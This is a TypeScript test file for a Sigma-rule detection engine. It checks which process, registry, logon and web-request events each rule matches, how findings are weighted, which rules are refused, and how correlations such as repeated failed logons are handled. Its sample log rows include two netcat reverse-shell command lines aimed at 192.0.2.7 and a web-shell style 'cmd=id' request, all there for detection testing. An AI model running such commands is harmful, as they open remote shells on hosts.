// Rules over rows of the events tables: which rows each rule finds, what findings say, and which rules are refused.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { selectionSql } from '../selection.ts';
import { matchedRecords, openRuleBench, type Rows, type RuleBench } from './rules.support.ts';

let bench: RuleBench;
beforeAll(async () => {
  bench = await openRuleBench();
});
afterAll(() => bench.close());

const sysmon = (fields: Readonly<Record<string, string>>) => ({
  host: 'WS1',
  username: 'CORP\\ann',
  pid: 400,
  executable: 'C:\\Windows\\System32\\cmd.exe',
  command_line: 'cmd.exe /c whoami',
  parent_executable: 'C:\\Windows\\explorer.exe',
  hashes: ['MD5=0123456789ABCDEF0123456789ABCDEF', 'IMPHASH=AAAA0000AAAA0000AAAA0000AAAA0000'],
  detail: JSON.stringify({
    ProcessGuid: '{1}',
    OriginalFileName: 'Cmd.Exe',
    ParentCommandLine: 'C:\\Windows\\Explorer.EXE',
    IntegrityLevel: 'High',
    LogonId: '0x3e7',
    ...fields,
  }),
});
const audited = {
  host: 'WS2',
  username: 'CORP\\bob',
  executable: 'C:\\Tools\\nc.exe',
  command_line: '"C:\\Tools\\nc.exe" -e cmd.exe 192.0.2.7 4444',
  parent_executable: 'C:\\Windows\\System32\\cmd.exe',
  detail: JSON.stringify({
    SubjectUserSid: 'S-1-5-18',
    MandatoryLabel: 'S-1-16-12288',
    SubjectLogonId: '0x99',
  }),
};
const unix = {
  host: 'web1',
  username: 'www',
  executable: '/usr/bin/nc',
  command_line: 'nc -e /bin/sh 192.0.2.7 1',
};

const processes: Rows = { process: [sysmon({}), audited, unix] };

/** The same event of the registry in the shapes exporters give it. */
const registryShapes: Rows = {
  base_event: [
    { Event: { System: { Channel: 'x' }, EventData: { TargetObject: 'HKLM\\Run\\evil', Details: 'a' } } },
    { EventData: { TargetObject: 'HKLM\\Run\\Evil', Details: 'b' } },
    { winlog: { event_id: 13, event_data: { TargetObject: 'HKLM\\RUN\\evil' } } },
    { EventID: 13, TargetObject: 'HKLM\\Run\\evil' },
    { 'winlog.event_data.TargetObject': 'HKLM\\Run\\evil' },
    { Event: { EventData: { Data: [{ '@Name': 'TargetObject', '#text': 'HKLM\\Run\\evil' }] } } },
    { Event: { UserData: { EventXML: { TargetObject: 'HKLM\\Run\\evil' } } } },
    { EventData: { TargetObject: 'HKLM\\Run\\good' } },
  ].map((record) => ({ stream: 'windows-sysmon-13', code: '13', host: 'WS1', raw: JSON.stringify(record) })),
};

const logons: Rows = {
  authentication: [
    {
      src_ip: '10.0.0.9',
      username: 'ann',
      host: 'DC1',
      service: 'windows',
      outcome: 'failure',
      method: 'network',
      detail: 'event 4625 {"SubStatus":"0xc000006a","WorkstationName":"WS9"}',
    },
    {
      src_ip: '::',
      username: 'ann',
      host: 'DC1',
      service: 'rdp',
      outcome: 'success',
      method: 'remote-interactive',
      detail: 'event 4624',
    },
  ],
  base_event: [
    {
      stream: 'windows-security-4720',
      code: '4720',
      host: 'DC1',
      raw: JSON.stringify({ EventID: 4720, TargetUserName: 'new' }),
    },
  ],
};

const requests: Rows = {
  http: [
    {
      src_ip: '198.51.100.1',
      dst_ip: '10.0.0.2',
      method: 'GET',
      host: 'a.example',
      uri: '/x.php?cmd=id',
      user_agent: 'curl/8',
      status: 200,
    },
    {
      src_ip: '10.0.0.3',
      dst_ip: '198.51.100.2',
      method: 'POST',
      host: 'b.example',
      uri: '/p/a.exe',
      user_agent: 'Mozilla',
      status: 404,
      request_headers: 'Cookie: SESSION=evil\nX: y',
    },
  ],
};

interface Case {
  readonly name: string;
  readonly tables: Rows;
  readonly source: string;
  readonly detection: string;
  readonly records: readonly number[];
}

const cases: readonly Case[] = [
  {
    name: 'the path of a program',
    tables: processes,
    source: 'category: process_creation, product: windows',
    detection: "{Image|endswith: '\\cmd.exe'}",
    records: [1],
  },
  {
    name: 'the audit log as well as Sysmon',
    tables: processes,
    source: 'category: process_creation, product: windows',
    detection: "{CommandLine|contains: 'cmd.exe'}",
    records: [1, 2],
  },
  {
    name: 'programs of Unix only under Linux',
    tables: processes,
    source: 'category: process_creation, product: linux',
    detection: "{CommandLine|contains: '-e'}",
    records: [3],
  },
  {
    name: 'a field of the rest of the event',
    tables: processes,
    source: 'category: process_creation, product: windows',
    detection: "{OriginalFileName: 'cmd.exe'}",
    records: [1],
  },
  {
    name: 'a hash in the list of hashes',
    tables: processes,
    source: 'category: process_creation, product: windows',
    detection: "{Hashes|contains: 'IMPHASH=aaaa0000'}",
    records: [1],
  },
  {
    name: 'a hash by its own name',
    tables: processes,
    source: 'category: process_creation, product: windows',
    detection: "{Imphash: 'aaaa0000aaaa0000aaaa0000aaaa0000'}",
    records: [1],
  },
  {
    name: 'integrity by name and by label',
    tables: processes,
    source: 'category: process_creation, product: windows',
    detection: "{IntegrityLevel: 'High'}",
    records: [1, 2],
  },
  {
    name: 'an event number that tells the source',
    tables: processes,
    source: 'product: windows, service: security',
    detection: "{EventID: 4688, NewProcessName|endswith: '\\nc.exe'}",
    records: [2],
  },
  {
    name: 'the Elastic name of a field',
    tables: processes,
    source: 'category: process_creation, product: windows',
    detection: "{process.command_line|contains: 'whoami'}",
    records: [1],
  },
  {
    name: 'keywords anywhere in the event',
    tables: processes,
    source: 'category: process_creation, product: windows',
    detection: "['4444', 'nothing of the kind']",
    records: [2],
  },
  {
    name: 'what is absent',
    tables: processes,
    source: 'category: process_creation, product: windows',
    detection: '{OriginalFileName: null}',
    records: [2],
  },
  {
    name: 'a dash for none',
    tables: processes,
    source: 'category: process_creation, product: windows',
    detection: "{OriginalFileName: '-'}",
    records: [2],
  },
  {
    name: 'one field against another',
    tables: processes,
    source: 'category: process_creation, product: windows',
    detection: '{CommandLine|fieldref|contains: Image}',
    records: [2],
  },
  {
    name: 'every shape of an exported record',
    tables: registryShapes,
    source: 'category: registry_set, product: windows',
    detection: "{TargetObject|endswith: '\\Run\\evil'}",
    records: [1, 2, 3, 4, 5, 6, 7],
  },
  {
    name: 'a failed logon',
    tables: logons,
    source: 'product: windows, service: security',
    detection: "{EventID: 4625, LogonType: 3, IpAddress|cidr: '10.0.0.0/8', SubStatus: '0xC000006A'}",
    records: [1],
  },
  {
    name: 'a logon without address',
    tables: logons,
    source: 'product: windows, service: security',
    detection: "{EventID: 4624, LogonType: 10, IpAddress: ['-', '127.0.0.1']}",
    records: [2],
  },
  {
    name: 'an event kept whole',
    tables: logons,
    source: 'product: windows, service: security',
    detection: '{EventID: 4720}',
    records: [1],
  },
  {
    name: 'the query of a request',
    tables: requests,
    source: 'category: webserver',
    detection: "{cs-uri-query|contains: 'cmd=', cs-method: get, sc-status: 200}",
    records: [1],
  },
  {
    name: 'stem and extension',
    tables: requests,
    source: 'category: proxy',
    detection: "{cs-uri-stem|startswith: '/p/', c-uri-extension: exe, sc-status|gte: 400}",
    records: [2],
  },
  {
    name: 'a cookie',
    tables: requests,
    source: 'category: proxy',
    detection: '{cs-cookie|contains: evil}',
    records: [2],
  },
];

const yamlOf = ({ name, source, detection }: Pick<Case, 'name' | 'source' | 'detection'>): string =>
  `title: ${name}\nlogsource: {${source}}\nlevel: high\ndetection:\n  s: ${detection}\n  condition: s\n`;

describe('a rule finds', () => {
  it.each(cases)('$name', async (given) => {
    await bench.load(given.tables);
    const outcome = await bench.evaluate(yamlOf(given));
    expect(outcome.account.not_usable).toEqual([]);
    expect(matchedRecords(outcome)).toEqual({ [given.name]: given.records });
  });

  it('the same together with many others as by itself', async () => {
    await bench.load({ ...processes, ...requests });
    const asked = cases.filter(({ tables }) => tables === processes || tables === requests);
    const outcome = await bench.evaluate(asked.map(yamlOf).join('---\n'));
    expect(matchedRecords(outcome)).toEqual(
      Object.fromEntries(asked.map(({ name, records }) => [name, records])),
    );
  });

  it('what it asks for by the number of the event alone, many rules of many alike events', async () => {
    const codes = ['4720', '4726', '4738', '4740'];
    await bench.load({
      base_event: Array.from({ length: 400 }, (_, at) => {
        const code = codes[at % codes.length] ?? '';
        const raw = JSON.stringify({ EventID: code, SubjectUserName: at === 5 ? 'mallory' : 'ann' });
        return { stream: `windows-security-${code}`, code, host: 'DC1', raw };
      }),
    });
    const rules = Array.from({ length: 60 }, (_, at) => ({
      name: `number ${4700 + at}`,
      source: 'product: windows, service: security',
      detection: `{EventID: ${4700 + at}${at % 2 === 0 ? '' : ', SubjectUserName: ann'}}`,
    }));
    const named = {
      ...rules[26],
      name: 'number and name',
      source: 'product: windows, service: security',
      detection: '{EventID: 4726, SubjectUserName: mallory}',
    };
    const found = matchedRecords(await bench.evaluate([...rules, named].map(yamlOf).join('---\n')));
    expect(found['number and name']).toEqual([6]);
    for (const [at, code] of codes.entries())
      expect(found[`number ${code}`]).toEqual(
        Array.from({ length: 100 }, (_, n) => n * codes.length + at + 1),
      );
    expect(Object.keys(found)).toHaveLength(codes.length + 1);
  });

  it('nothing when the events are not there, and says so', async () => {
    await bench.load({});
    const { findings, account } = await bench.evaluate(cases.map(yamlOf).join('---\n'));
    expect(findings).toEqual([]);
    expect(account).toMatchObject({ usable: cases.length, without_events: cases.length });
  });
});

describe('a finding of a rule', () => {
  const rule = (level: string, status: string, tags = '[attack.execution, attack.t1059.003]') =>
    `title: Shell\nid: 1\nstatus: ${status}\nlevel: ${level}\ntags: ${tags}\nlogsource: {category: process_creation, product: windows}\ndetection:\n  s: {Image|endswith: '.exe'}\n  condition: s\n`.replace(
      'id: 1',
      'id: one',
    );

  it.each([
    ['critical', 'stable', 'incident'],
    ['critical', 'test', 'incident'],
    ['critical', 'experimental', 'supporting'],
    ['high', 'stable', 'supporting'],
    ['medium', 'stable', 'background'],
    ['informational', 'test', 'background'],
  ])('weighs a %s rule of status %s as %s', async (level, status, weight) => {
    await bench.load(processes);
    const { findings } = await bench.evaluate(rule(level, status));
    expect(findings.map(({ draft }) => draft.weight)).toEqual([weight, weight]);
  });

  it('is one per machine, with technique, rule and the events it stands on', async () => {
    await bench.load({ process: [...(processes['process'] ?? []), sysmon({ LogonId: '2' })] });
    const { findings, account } = await bench.evaluate(rule('critical', 'test'));
    const own = findings.find(({ draft }) => draft.host === 'WS1');
    expect(own?.draft).toMatchObject({
      detector: 'sigma',
      technique: 'T1059.003',
      direction: 'local',
      event_count: 2,
      first_seen: '2024-03-05T00:00:00.000000Z',
      last_seen: '2024-03-05T00:00:03.000000Z',
      detail: { rule: 'Shell', rule_id: 'one', level: 'critical', status: 'test' },
    });
    expect(own?.events).toEqual(['e-process:1', 'e-process:4']);
    expect(account.matched).toEqual([{ file: 'rules.yml', title: 'Shell', events: 3 }]);
    for (const selector of own?.draft.selectors ?? []) {
      const { where, parameters } = selectionSql(selector);
      const [row] = await bench.engine.query(`SELECT count() AS n FROM process WHERE ${where}`, parameters);
      expect(row?.['n']).toBe(2);
    }
  });

  it('names the machine of ours and the other side', async () => {
    await bench.load(requests);
    const { findings } = await bench.evaluate(
      yamlOf({ name: 'any', source: 'category: proxy', detection: "{cs-method: ['GET', 'POST']}" }),
    );
    expect(findings.map(({ draft }) => [draft.host, draft.direction, draft.peer])).toEqual([
      ['10.0.0.2', 'inbound', '198.51.100.1'],
      ['10.0.0.3', 'outbound', '198.51.100.2'],
    ]);
  });

  it('takes a technique for the tactic when the rule names no other', async () => {
    await bench.load(processes);
    const { findings } = await bench.evaluate(rule('high', 'test', '[attack.credential-access]'));
    expect(findings[0]?.draft.technique).toBe('T1003');
  });
});

describe('a rule is refused', () => {
  it.each<readonly [string, string, string, RegExp]>([
    [
      'for a field the events do not carry',
      'category: network_connection, product: windows',
      '{Image: x}',
      /network events do not carry the field Image/,
    ],
    [
      'for a log source no table holds',
      'category: file_access, product: windows',
      '{Image: x}',
      /no table holds file_access/,
    ],
    [
      'for a log of Windows nobody knows',
      'product: windows, service: nonsense',
      '{Image: x}',
      /nonsense is not known/,
    ],
    ['for macOS', 'category: process_creation, product: macos', '{Image: x}', /macOS/],
    [
      'for an event number its source cannot have',
      'category: process_creation, product: windows',
      '{EventID: 4625}',
      /no event of its log source/,
    ],
    [
      'for a regular expression the engine does not take',
      'category: process_creation, product: windows',
      "{Image|re: 'a{2,1001}'}",
      /not one of the linear-time engine/,
    ],
    [
      'for keywords where no text is kept',
      'category: firewall',
      '[x]',
      /keywords cannot be searched in network/,
    ],
    ['for an empty search', 'category: proxy', '{}', /is empty/],
    ['for no log source', 'definition: x', '{a: b}', /neither category/],
    ['for values that are maps', 'category: proxy', '{cs-method: [{a: b}]}', /neither text nor numbers/],
  ])('%s', async (name, source, detection, reason) => {
    const { account } = await bench.evaluate(yamlOf({ name, source, detection }));
    expect(account.not_usable.map((refused) => refused.reason)).toEqual([expect.stringMatching(reason)]);
    expect(account.usable).toBe(0);
  });

  it.each([
    ['deprecated', 'status: deprecated', /status deprecated/],
    ['a global action of old', 'action: global', /no longer Sigma/],
    ['a filter over other rules', 'filter: {rules: [a]}', /filters/],
    ['with a timeframe', 'detection: {timeframe: 5m, s: {a: b}, condition: s}', /timeframe/],
    ['without title', 'title: ""', /title/],
    ['with a level nobody knows', 'level: severe', /level/],
  ])('when it is %s', async (_, changed, reason) => {
    const key = changed.split(':')[0] ?? '';
    const rest = ['title: x', 'logsource: {category: proxy}', 'detection: {s: {cs-method: b}, condition: s}'];
    const yaml = [...rest.filter((line) => !line.startsWith(`${key}:`)), changed].join('\n');
    const { account } = await bench.evaluate(yaml);
    expect(account.not_usable.map((refused) => refused.reason)).toEqual([expect.stringMatching(reason)]);
  });

  it('in part, where only some of its events carry its fields', async () => {
    const yaml = yamlOf({
      name: 'handles',
      source: 'product: windows, service: security',
      detection: "{EventID: 4663, AccessMask: '0x2'}",
    });
    const { account } = await bench.evaluate(yaml);
    expect(account).toMatchObject({ usable: 1, not_usable: [], partly_usable: [{ title: 'handles' }] });
  });
});

describe('correlations over the events', () => {
  const failed = (at: number, user: string) => ({
    time: `${1_709_596_800 + at}.000000`,
    host: 'DC1',
    username: user,
    src_ip: '10.0.0.9',
    service: 'windows',
    method: 'network',
    outcome: 'failure',
    detail: 'event 4625',
  });
  // The specification's example: many failed logons, then one that succeeds, of the same user.
  const yaml = `
title: Guessed
correlation: {type: temporal_ordered, rules: [many_failed, success], group-by: [TargetUserName], timespan: 10m}
level: high
---
title: Many failed
name: many_failed
correlation: {type: event_count, rules: [failed], group-by: [TargetUserName], timespan: 10m, condition: {gte: 3}}
---
title: Failed
name: failed
logsource: {product: windows, service: security}
detection: {s: {EventID: 4625}, condition: s}
---
title: Success
name: success
logsource: {product: windows, service: security}
detection: {s: {EventID: 4624}, condition: s}
`;
  const success = (at: number, user: string) => ({
    ...failed(at, user),
    outcome: 'success',
    detail: 'event 4624',
  });

  it('find a chain of correlations and report only the outermost', async () => {
    await bench.load({
      authentication: [
        failed(0, 'ann'),
        failed(5, 'ann'),
        failed(9, 'bob'),
        failed(10, 'ann'),
        success(20, 'ann'),
        success(30, 'bob'),
      ],
    });
    const { findings, account } = await bench.evaluate(yaml);
    expect(account).toMatchObject({ usable: 4, not_usable: [] });
    expect(findings.map(({ draft }) => draft.detail['rule'])).toEqual(['Guessed']);
    expect(findings[0]).toMatchObject({
      draft: {
        host: 'DC1',
        weight: 'supporting',
        event_count: 4,
        detail: { correlation: 'temporal_ordered', group: ['ann'] },
      },
      events: ['e-authentication:1', 'e-authentication:2', 'e-authentication:4', 'e-authentication:5'],
    });
  });

  it('find nothing when the success comes too late or is of another user', async () => {
    await bench.load({
      authentication: [
        failed(0, 'ann'),
        failed(5, 'ann'),
        failed(10, 'ann'),
        success(700, 'ann'),
        success(20, 'eve'),
      ],
    });
    expect((await bench.evaluate(yaml)).findings).toEqual([]);
  });

  it('report the rules too when asked to generate', async () => {
    await bench.load({ authentication: [failed(0, 'ann'), failed(5, 'ann'), failed(10, 'ann')] });
    const only = yaml
      .split('---')
      .slice(1)
      .join('---')
      .replace('condition: {gte: 3}}', 'condition: {gte: 3}, generate: true}');
    const { findings } = await bench.evaluate(only);
    expect(findings.map(({ draft }) => draft.detail['rule'])).toEqual(['Failed', 'Many failed']);
  });

  it('group by different fields through aliases', async () => {
    await bench.load({
      authentication: [failed(0, 'ann')],
      process: [{ ...sysmon({}), username: 'ann', time: '1709596805.000000' }],
    });
    const aliased = `
title: Logon then program
correlation:
  type: temporal
  rules: [failed, program]
  group-by: [who]
  timespan: 1m
  aliases: {who: {failed: TargetUserName, program: User}}
level: high
---
title: Failed
name: failed
logsource: {product: windows, service: security}
detection: {s: {EventID: 4625}, condition: s}
---
title: Program
name: program
logsource: {category: process_creation, product: windows}
detection: {s: {Image|endswith: .exe}, condition: s}
`;
    const { findings } = await bench.evaluate(aliased);
    expect(findings.map(({ draft }) => [draft.detail['rule'], draft.detail['group']])).toEqual([
      ['Logon then program', ['ann']],
    ]);
  });

  it.each([
    ['a rule that is not there', 'rules: [nowhere]', /no usable rule has the name or id nowhere/],
    ['itself', 'rules: [self]', /not usable|refers to itself/],
  ])('are refused when they refer to %s', async (_, rules, reason) => {
    const own = `title: Self\nname: self\ncorrelation: {type: event_count, ${rules}, group-by: [a], timespan: 1m, condition: {gte: 1}}\n`;
    const { account } = await bench.evaluate(own);
    expect(account.not_usable.map((refused) => refused.reason)).toEqual([expect.stringMatching(reason)]);
  });
});
